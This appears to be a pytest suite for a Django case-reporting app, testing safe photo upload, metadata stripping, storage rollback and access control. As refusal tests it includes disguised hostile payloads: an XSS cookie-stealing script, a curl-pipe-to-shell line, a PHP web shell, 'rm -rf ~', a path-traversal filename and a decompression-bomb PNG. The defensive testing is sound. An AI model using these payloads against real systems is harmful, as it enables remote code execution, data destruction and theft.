"""Photos of cases: judged by content, re-encoded without metadata, stored and served safely."""

from __future__ import annotations

import hashlib
import io
import re
import struct
import zlib

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.db.transaction import TransactionManagementError
from django.urls import NoReverseMatch, include, path, resolve, reverse
from django.utils import translation
from PIL import ExifTags, Image, ImageCms
from rest_framework.test import APIClient

from cases.models import Case, CasePhoto
from cases.photo_views import photo_file
from cases.photos import (
    THUMBNAIL_SIDE,
    PreparedPhoto,
    photos_atomic,
    prepare_photos,
    store_photos,
)
from cases.services import case_accept, case_dispatch, case_file, case_report, case_transition
from cases.testing import API_REPORT, GRID_POINT, make_case_world
from cases.workflow import MAX_PHOTOS
from core.errors import DomainError

# The sign-in pages, the staff pages of cases and the cases API: the URLconf
# used while the project's own does not serve "cases:photo" yet.
urlpatterns = [
    path("accounts/", include("accounts.urls")),
    path("cases/", include("cases.urls")),
    path("api/v1/", include("cases.api.urls")),
]


# --- fixtures and builders ------------------------------------------------------------


@pytest.fixture(autouse=True)
def english(settings):
    settings.LANGUAGE_CODE = "en"
    with translation.override("en"):
        yield


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def world(small_city):
    return make_case_world(small_city)


@pytest.fixture
def photo_urls(settings):
    """The project's URLconf when it serves the photo route, else this module's."""
    try:
        reverse("cases:photo", kwargs={"pk": 1, "size": "full"})
    except (ImportError, NoReverseMatch):
        settings.ROOT_URLCONF = __name__


def report(world, **extra) -> Case:
    return case_report(
        actor=extra.pop("actor", world["worker"]),
        category=world.garbage,
        lat=GRID_POINT[0],
        lng=GRID_POINT[1],
        description="路边垃圾",
        source="grid_worker",
        **extra,
    )


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def upload(data: bytes, name: str = "photo.jpg", content_type: str = "image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def jpeg(size=(64, 48), color=(200, 30, 30), **options) -> bytes:
    return encoded(Image.new("RGB", size, color), "JPEG", **options)


def noisy(size=(400, 300)) -> Image.Image:
    # Random-looking pixels do not compress: a file of a predictable, large size.
    return Image.frombytes("RGB", size, hashlib.shake_256(b"noise").digest(size[0] * size[1] * 3))


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares its size and holds no pixels: all a decompression bomb needs."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IEND", b"")


def gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Canon"
    exif[ExifTags.Base.Model] = "EOS R6"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (39.0, 54.0, 36.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (116.0, 24.0, 18.0),
        }
    )
    return exif


def jpeg_segments(data: bytes) -> list[int]:
    """The markers of a JPEG's header segments, up to the start of the scan."""
    assert data[:2] == b"\xff\xd8"
    markers, at = [], 2
    while at < len(data):
        assert data[at] == 0xFF
        marker = data[at + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: the compressed data follows
            break
        (length,) = struct.unpack(">H", data[at + 2 : at + 4])
        at += 2 + length
    return markers


def refusal(files) -> list[str]:
    with pytest.raises(DomainError) as caught:
        prepare_photos(files)
    assert caught.value.status_code == 400
    assert set(caught.value.errors) == {"photos"}
    return caught.value.errors["photos"]


def read_stored(name: str) -> bytes:
    with default_storage.open(name, "rb") as handle:
        return handle.read()


# --- content, not names -----------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"<script>alert(document.cookie)</script>",
        b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
        b"<?php system($_GET['c']); ?>",
    ],
)
def test_a_jpg_holding_a_script_is_refused_by_name(content):
    messages = refusal([upload(jpeg(), "ok.jpg"), upload(content, "evil.jpg")])
    assert len(messages) == 1
    assert messages[0].startswith("Photo 2 (evil.jpg): ")
    assert "text" in messages[0] and "not an image" in messages[0]


def test_the_client_content_type_and_name_are_ignored():
    (photo,) = prepare_photos([upload(jpeg(), "notes.txt", content_type="text/html")])
    assert photo.content_type == "image/jpeg" and photo.extension == "jpg"


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (encoded(Image.new("RGB", (20, 20), "red"), "GIF"), "GIF"),
        (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", "PDF"),
        (encoded(Image.new("RGB", (20, 20), "red"), "BMP"), "BMP"),
        (encoded(Image.new("RGB", (20, 20), "red"), "TIFF"), "TIFF"),
    ],
)
def test_other_formats_are_refused(data, word):
    (message,) = refusal([upload(data, "photo.png", "image/png")])
    assert message.startswith("Photo 1 (photo.png): ")
    assert word in message and "JPEG, PNG and WebP" in message


def test_empty_and_damaged_files_are_refused():
    whole = encoded(noisy((200, 150)), "JPEG", quality=90)
    png = encoded(noisy((50, 50)), "PNG")
    # One byte of the pixel data changed: the chunk's checksum no longer matches.
    idat = png.index(b"IDAT") + 10
    bad_crc = png[:idat] + bytes([png[idat] ^ 0xFF]) + png[idat + 1 :]
    messages = refusal(
        [
            upload(b"", "empty.jpg"),
            upload(whole[: len(whole) // 2], "half.jpg"),
            upload(bad_crc, "bad.png"),
        ]
    )
    assert messages[0] == "Photo 1 (empty.jpg): the file is empty."
    assert messages[1] == "Photo 2 (half.jpg): the image is damaged or incomplete."
    assert messages[2] == "Photo 3 (bad.png): the image is damaged or incomplete."


def test_names_in_messages_lose_their_path_and_control_characters():
    (message,) = refusal([upload(b"plain text", "../../etc/pa\x1bss\nwd.jpg")])
    assert message.startswith("Photo 1 (passwd.jpg): ")


# --- limits -------------------------------------------------------------------------------


def test_more_than_nine_photos_are_refused_and_nine_are_accepted():
    assert MAX_PHOTOS == 9
    files = [upload(jpeg(color=(i * 20, 0, 0)), f"{i}.jpg") for i in range(MAX_PHOTOS + 1)]
    (message,) = refusal(files)
    assert "At most 9 photos" in message and "10 were sent" in message
    assert len(prepare_photos(files[:MAX_PHOTOS])) == MAX_PHOTOS
    assert prepare_photos([]) == [] and prepare_photos(None) == []


def test_a_file_over_the_size_limit_is_refused(settings):
    big = encoded(noisy(), "PNG")
    settings.CIVICGRID = {**settings.CIVICGRID, "PHOTO_MAX_BYTES": len(big) - 1}
    (message,) = refusal([upload(big, "big.png")])
    assert message.startswith("Photo 1 (big.png): the file is larger than")

    class Unsized:
        """A file that does not say its size: the limit holds while reading."""

        name = "stream.png"

        def __init__(self, data):
            self._io = io.BytesIO(data)

        def read(self, n=-1):
            return self._io.read(n)

    (message,) = refusal([Unsized(big)])
    assert "stream.png" in message and "larger than" in message
    settings.CIVICGRID = {**settings.CIVICGRID, "PHOTO_MAX_BYTES": len(big)}
    assert len(prepare_photos([Unsized(big)])) == 1


def test_the_default_limits_come_from_settings(settings):
    assert settings.CIVICGRID["PHOTO_MAX_BYTES"] == 10 * 1024 * 1024
    assert settings.CIVICGRID["PHOTO_MAX_PIXELS"] == 40_000_000


def test_a_decompression_bomb_is_refused_before_it_is_decoded(settings):
    # 8000 × 6000 declared in a 45-byte file: over the 40-megapixel limit.
    (message,) = refusal([upload(png_header(8000, 6000), "bomb.png")])
    assert message.startswith("Photo 1 (bomb.png): the image has 48.0 megapixels")
    # Far beyond Pillow's own guard, which fires while the header is read.
    (message,) = refusal([upload(png_header(30000, 30000), "huge.png")])
    assert "too many pixels" in message and "huge.png" in message
    # A real image over a lowered limit.
    settings.CIVICGRID = {**settings.CIVICGRID, "PHOTO_MAX_PIXELS": 10_000}
    (message,) = refusal([upload(jpeg((200, 100)), "wide.jpg")])
    assert "(200 × 100)" in message
    assert len(prepare_photos([upload(jpeg((100, 100)), "fits.jpg")])) == 1


# --- re-encoding ------------------------------------------------------------------------


@pytest.mark.parametrize("with_icc", [False, True])
def test_exif_gps_and_all_metadata_are_dropped_and_orientation_applied(with_icc):
    # Left half red, right half blue, stored sideways: orientation 6 turns it upright.
    picture = Image.new("RGB", (60, 40), (220, 0, 0))
    picture.paste((0, 0, 220), (30, 0, 60, 40))
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    original = encoded(
        picture,
        "JPEG",
        quality=95,
        exif=gps_exif(orientation=6),
        comment=b"owner-comment",
        xmp=b"<x:xmpmeta>owner-xmp</x:xmpmeta>",
        **({"icc_profile": srgb} if with_icc else {}),
    )
    sent = Image.open(io.BytesIO(original))
    assert sent.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the input does carry GPS
    assert b"Canon" in original and b"owner-comment" in original

    (photo,) = prepare_photos([upload(original, "IMG_0001.JPG")])

    for data in (photo.image, photo.thumbnail):
        image = Image.open(io.BytesIO(data))
        assert image.format == "JPEG"
        assert dict(image.getexif()) == {}
        assert not {"exif", "xmp", "comment", "icc_profile"} & set(image.info)
        for marker in (b"Exif", b"Canon", b"EOS R6", b"owner-comment", b"owner-xmp"):
            assert marker not in data
        # Only JFIF (APP0) among the application segments: no EXIF, XMP or ICC.
        assert not [m for m in jpeg_segments(data) if 0xE1 <= m <= 0xEF]
    upright = Image.open(io.BytesIO(photo.image))
    assert (photo.width, photo.height) == upright.size == (40, 60)
    top, bottom = upright.getpixel((20, 5)), upright.getpixel((20, 55))
    assert top[0] > 150 and top[2] < 80  # red on top
    assert bottom[2] > 150 and bottom[0] < 80  # blue below
    assert photo.sha256 == hashlib.sha256(photo.image).hexdigest()
    assert photo.size == len(photo.image)


def test_png_and_webp_are_accepted_and_alpha_is_kept_as_webp():
    opaque_png = encoded(Image.new("RGBA", (30, 20), (0, 128, 0, 255)), "PNG")
    clear = Image.new("RGBA", (30, 20), (0, 0, 0, 0))
    clear.paste((0, 0, 255, 255), (0, 0, 15, 20))
    clear_png = encoded(clear, "PNG")
    webp = encoded(Image.new("RGB", (30, 20), (10, 20, 200)), "WEBP", exif=gps_exif())
    palette = encoded(Image.new("P", (30, 20), 3), "PNG")
    grey16 = encoded(Image.new("I;16", (30, 20), 40000), "PNG")

    photos = prepare_photos(
        [
            upload(opaque_png, "a.png"),
            upload(clear_png, "b.png"),
            upload(webp, "c.webp"),
            upload(palette, "d.png"),
            upload(grey16, "e.png"),
        ]
    )
    assert [p.content_type for p in photos] == [
        "image/jpeg",  # an alpha channel that is all opaque is dropped
        "image/webp",  # transparency used: kept, in WebP
        "image/jpeg",
        "image/jpeg",
        "image/jpeg",
    ]
    kept = Image.open(io.BytesIO(photos[1].image))
    assert kept.format == "WEBP" and kept.mode == "RGBA"
    assert kept.getpixel((25, 10))[3] == 0 and kept.getpixel((5, 10))[3] == 255
    assert Image.open(io.BytesIO(photos[1].thumbnail)).format == "WEBP"
    assert b"Canon" not in photos[2].image and not dict(
        Image.open(io.BytesIO(photos[2].image)).getexif()
    )
    # 16-bit grey is scaled, not clipped to white.
    assert 140 < Image.open(io.BytesIO(photos[4].image)).convert("L").getpixel((5, 5)) < 170


def test_the_thumbnail_fits_320_pixels_and_keeps_the_proportions():
    wide, small = prepare_photos(
        [upload(encoded(noisy((1000, 600)), "JPEG"), "wide.jpg"), upload(jpeg((100, 50)), "s.jpg")]
    )
    thumb = Image.open(io.BytesIO(wide.thumbnail))
    assert max(thumb.size) == THUMBNAIL_SIDE and thumb.size == (320, 192)
    assert (wide.thumbnail_width, wide.thumbnail_height) == (320, 192)
    assert (wide.width, wide.height) == (1000, 600)
    # A small image is not enlarged.
    assert Image.open(io.BytesIO(small.thumbnail)).size == (100, 50)


# --- storing ----------------------------------------------------------------------------


def test_store_photos_writes_files_through_storage_and_rows(world, media):
    case = report(world)
    event = case.events.get()
    prepared = prepare_photos(
        [upload(jpeg(exif=gps_exif()), "家里的照片.jpg"), upload(jpeg((500, 400)), "b.jpg")]
    )
    with photos_atomic():
        photos = store_photos(
            case=case, event=event, action="report", prepared=prepared, actor=world["worker"]
        )
    assert len(photos) == 2 and all(p.pk for p in photos)
    rows = list(CasePhoto.objects.filter(case=case).order_by("id"))
    assert [r.pk for r in rows] == [p.pk for p in photos]
    for row, item in zip(rows, prepared, strict=True):
        assert row.event_id == event.pk and row.action == "report"
        assert row.uploaded_by_id == world["worker"].pk and row.is_public is False
        assert (row.width, row.height, row.size) == (item.width, item.height, item.size)
        assert row.content_type == "image/jpeg"
        assert re.fullmatch(r"cases/photos/\d{4}/\d{2}/[0-9a-f]{32}\.jpg", row.image.name)
        assert re.fullmatch(r"cases/photos/\d{4}/\d{2}/[0-9a-f]{32}-thumb\.jpg", row.thumbnail.name)
        stored = read_stored(row.image.name)
        assert hashlib.sha256(stored).hexdigest() == row.sha256 == item.sha256
        assert len(stored) == row.size
        assert read_stored(row.thumbnail.name) == item.thumbnail
        assert not dict(Image.open(io.BytesIO(stored)).getexif())
        assert (media / row.image.name).is_file()
    assert not any("家里" in p.name for p in media.rglob("*"))


def _stored_files(media) -> list:
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def test_a_rollback_removes_the_stored_files(world, media):
    case = report(world)
    prepared = prepare_photos([upload(jpeg(), "a.jpg"), upload(jpeg(), "b.jpg")])
    with pytest.raises(RuntimeError, match="after the photos"), photos_atomic():
        photos = store_photos(case=case, event=None, action="report", prepared=prepared, actor=None)
        assert len(_stored_files(media)) == 4
        assert CasePhoto.objects.count() == 2
        raise RuntimeError("something failed after the photos")
    assert _stored_files(media) == []
    assert not CasePhoto.objects.exists()
    assert not any(default_storage.exists(p.image.name) for p in photos)


def test_files_of_a_completed_inner_block_go_when_the_outer_block_rolls_back(world, media):
    case = report(world)
    prepared = prepare_photos([upload(jpeg(), "a.jpg")])
    with pytest.raises(RuntimeError), photos_atomic():
        with photos_atomic():
            store_photos(case=case, event=None, action="report", prepared=prepared, actor=None)
        assert len(_stored_files(media)) == 2
        raise RuntimeError
    assert _stored_files(media) == []
    # A savepoint that rolls back removes its own files; the outer block's stay.
    with photos_atomic():
        store_photos(case=case, event=None, action="handle", prepared=prepared, actor=None)
        with pytest.raises(RuntimeError), photos_atomic():
            store_photos(case=case, event=None, action="check", prepared=prepared, actor=None)
            raise RuntimeError
    assert len(_stored_files(media)) == 2
    assert list(CasePhoto.objects.values_list("action", flat=True)) == ["handle"]


def test_a_failure_inside_store_photos_leaves_no_file(world, media):
    prepared = prepare_photos([upload(jpeg(), "a.jpg"), upload(jpeg(), "b.jpg")])
    unsaved = Case(number="X")  # the rows cannot be written: the files are removed
    with photos_atomic(), pytest.raises(ValueError):
        store_photos(case=unsaved, event=None, action="report", prepared=prepared, actor=None)
    assert _stored_files(media) == []


def test_store_photos_refuses_a_plain_transaction(world, media):
    case = report(world)
    prepared = prepare_photos([upload(jpeg(), "a.jpg")])
    with transaction.atomic(), pytest.raises(TransactionManagementError):
        store_photos(case=case, event=None, action="report", prepared=prepared, actor=None)
    assert _stored_files(media) == []
    # Nothing to store needs no transaction at all.
    with transaction.atomic():
        assert store_photos(case=case, event=None, action="report", prepared=[], actor=None) == []


@pytest.mark.django_db(transaction=True)
def test_committed_photos_keep_their_files_and_rolled_back_ones_do_not(world, media):
    case = report(world)
    assert not transaction.get_connection().in_atomic_block
    prepared = prepare_photos([upload(jpeg(), "a.jpg")])
    # Outside any transaction, store_photos opens its own.
    (kept,) = store_photos(case=case, event=None, action="report", prepared=prepared, actor=None)
    with pytest.raises(RuntimeError), photos_atomic():
        store_photos(case=case, event=None, action="handle", prepared=prepared, actor=None)
        raise RuntimeError
    assert sorted(p.relative_to(media).as_posix() for p in _stored_files(media)) == sorted(
        [kept.image.name, kept.thumbnail.name]
    )
    assert list(CasePhoto.objects.values_list("pk", flat=True)) == [kept.pk]


def test_prepared_photo_holds_no_uploaded_name():
    (photo,) = prepare_photos([upload(jpeg(), "secret-name.jpg")])
    assert isinstance(photo, PreparedPhoto)
    assert "secret-name" not in repr(photo)


# --- serving ----------------------------------------------------------------------------


@pytest.fixture
def stored_photo(world):
    case = report(world)
    prepared = prepare_photos([upload(encoded(noisy((800, 600)), "JPEG"), "a.jpg")])
    with photos_atomic():
        (photo,) = store_photos(
            case=case,
            event=case.events.get(),
            action="report",
            prepared=prepared,
            actor=world["worker"],
        )
    return photo


def photo_url(photo, size="full") -> str:
    return reverse("cases:photo", kwargs={"pk": photo.pk, "size": size})


@pytest.mark.usefixtures("photo_urls")
def test_the_photo_view_serves_the_file_to_who_may_see_the_case(client, world, stored_photo):
    assert resolve(photo_url(stored_photo)).func is photo_file
    for who in ("lead", "worker"):
        client.force_login(world[who])
        for size, field in (("full", "image"), ("thumb", "thumbnail")):
            response = client.get(photo_url(stored_photo, size))
            assert response.status_code == 200, (who, size)
            assert response["Content-Type"] == "image/jpeg"
            assert response["Cache-Control"] == "private, max-age=3600"
            assert response["X-Content-Type-Options"] == "nosniff"
            assert response["Content-Disposition"].startswith("inline")
            body = b"".join(response.streaming_content)
            assert body == read_stored(getattr(stored_photo, field).name)
            assert int(response["Content-Length"]) == len(body)
    thumb = Image.open(io.BytesIO(body))
    assert max(thumb.size) <= THUMBNAIL_SIDE


@pytest.mark.usefixtures("photo_urls")
def test_the_photo_view_hides_photos_out_of_scope_and_refuses_strangers(
    client, world, stored_photo
):
    url = photo_url(stored_photo)
    anonymous = client.get(url)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith(reverse("login"))
    # A grid worker of another community: as if the photo did not exist.
    client.force_login(world["far_worker"])
    assert client.get(url).status_code == 404
    assert client.get(photo_url(stored_photo, "thumb")).status_code == 404
    client.force_login(world["lead"])
    assert client.get(url.replace("/full/", "/large/")).status_code == 404
    assert client.get(photo_url(stored_photo, "original")).status_code == 404
    missing = reverse("cases:photo", kwargs={"pk": stored_photo.pk + 100, "size": "full"})
    assert client.get(missing).status_code == 404
    assert client.post(url).status_code == 405
    # A file gone from storage is a 404, not a server error.
    default_storage.delete(stored_photo.image.name)
    assert client.get(url).status_code == 404


# --- through the services and the API -----------------------------------------------------


def accepted_case(world) -> Case:
    case = report(world)
    case = case_file(case_id=case.pk, expected_version=case.version, actor=world["lead"])
    case = case_dispatch(
        case_id=case.pk,
        expected_version=case.version,
        actor=world["dispatcher"],
        department=world.sanitation,
    )
    return case_accept(case_id=case.pk, expected_version=case.version, actor=world["handler"])


def test_a_report_and_a_step_carry_photos_through_the_services(world, media):
    case = report(
        world,
        photos=[
            upload(jpeg(exif=gps_exif()), "IMG_1.jpg"),
            upload(encoded(noisy(), "PNG"), "x.png"),
        ],
    )
    report_event = case.events.get()
    rows = list(case.photos.order_by("id"))
    assert [(r.action, r.event_id) for r in rows] == [("report", report_event.pk)] * 2
    assert all(r.uploaded_by_id == world["worker"].pk for r in rows)
    assert not dict(Image.open(io.BytesIO(read_stored(rows[0].image.name))).getexif())

    case = accepted_case(world)
    case = case_transition(
        case_id=case.pk,
        expected_version=case.version,
        action="handle",
        actor=world["handler"],
        photos=[upload(jpeg(), "done.jpg")],
    )
    handled = case.events.get(action="handle")
    (after,) = CasePhoto.objects.filter(event=handled)
    assert after.case_id == case.pk and after.action == "handle"
    assert default_storage.exists(after.image.name) and default_storage.exists(after.thumbnail.name)


def test_a_refused_photo_stops_the_report_before_anything_is_written(world, media):
    with pytest.raises(DomainError) as caught:
        report(world, photos=[upload(jpeg(), "a.jpg"), upload(b"<script></script>", "b.jpg")])
    assert caught.value.errors["photos"][0].startswith("Photo 2 (b.jpg): ")
    assert not Case.objects.exists() and not CasePhoto.objects.exists()
    assert _stored_files(media) == []


def test_a_stale_step_with_photos_stores_nothing(world, media):
    case = accepted_case(world)
    with pytest.raises(DomainError) as caught:
        case_transition(
            case_id=case.pk,
            expected_version=case.version - 1,
            action="handle",
            actor=world["handler"],
            photos=[upload(jpeg(), "late.jpg")],
        )
    assert caught.value.status_code == 409
    assert not CasePhoto.objects.exists() and _stored_files(media) == []


API = "/api/v1/cases"
REPORT = API_REPORT


def api_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.mark.usefixtures("photo_urls")
def test_the_api_takes_photos_as_multipart_and_lists_them(world, media, client):
    api = api_for(world["worker"])
    response = api.post(
        API,
        {
            **REPORT,
            "photos": [
                upload(jpeg(exif=gps_exif()), "one.jpg"),
                upload(encoded(noisy((600, 400)), "WEBP"), "two.webp", "image/webp"),
            ],
        },
        format="multipart",
    )
    assert response.status_code == 201, response.content
    body = response.json()
    assert [p["action"] for p in body["photos"]] == ["report", "report"]
    report_event = body["timeline"][0]["id"]
    assert {p["event"] for p in body["photos"]} == {report_event}
    assert [(p["width"], p["height"]) for p in body["photos"]] == [(64, 48), (600, 400)]

    detail = api_for(world["lead"]).get(f"{API}/{body['number']}").json()
    assert [p["id"] for p in detail["photos"]] == [p["id"] for p in body["photos"]]
    client.force_login(world["lead"])
    for photo in detail["photos"]:
        for key in ("url", "thumbnail_url"):
            served = client.get(photo[key])
            assert served.status_code == 200 and served["Content-Type"] == "image/jpeg"
            assert not dict(Image.open(io.BytesIO(b"".join(served.streaming_content))).getexif())
    client.force_login(world["far_worker"])
    assert client.get(detail["photos"][0]["url"]).status_code == 404

    # A step through the API, with its photos.
    case = Case.objects.get(number=body["number"])
    case = case_file(case_id=case.pk, expected_version=case.version, actor=world["lead"])
    case = case_dispatch(
        case_id=case.pk,
        expected_version=case.version,
        actor=world["dispatcher"],
        department=world.sanitation,
    )
    case = case_accept(case_id=case.pk, expected_version=case.version, actor=world["handler"])
    acted = api_for(world["handler"]).post(
        f"{API}/{case.number}/actions/handle",
        {"note": "已清理", "photos": [upload(jpeg((90, 60)), "after.jpg")]},
        format="multipart",
        HTTP_IF_MATCH=f'"{case.version}"',
    )
    assert acted.status_code == 200, acted.content
    assert [p["action"] for p in acted.json()["photos"]] == ["report", "report", "handle"]


def test_the_api_refuses_a_disguised_file_with_a_field_error(world, media):
    api = api_for(world["worker"])
    response = api.post(
        API,
        {**REPORT, "photos": [upload(b"#!/bin/sh\nrm -rf ~\n", "nice.jpg")]},
        format="multipart",
    )
    assert response.status_code == 400
    (message,) = response.json()["errors"]["photos"]
    assert message.startswith("Photo 1 (nice.jpg): ")
    assert not Case.objects.exists() and _stored_files(media) == []
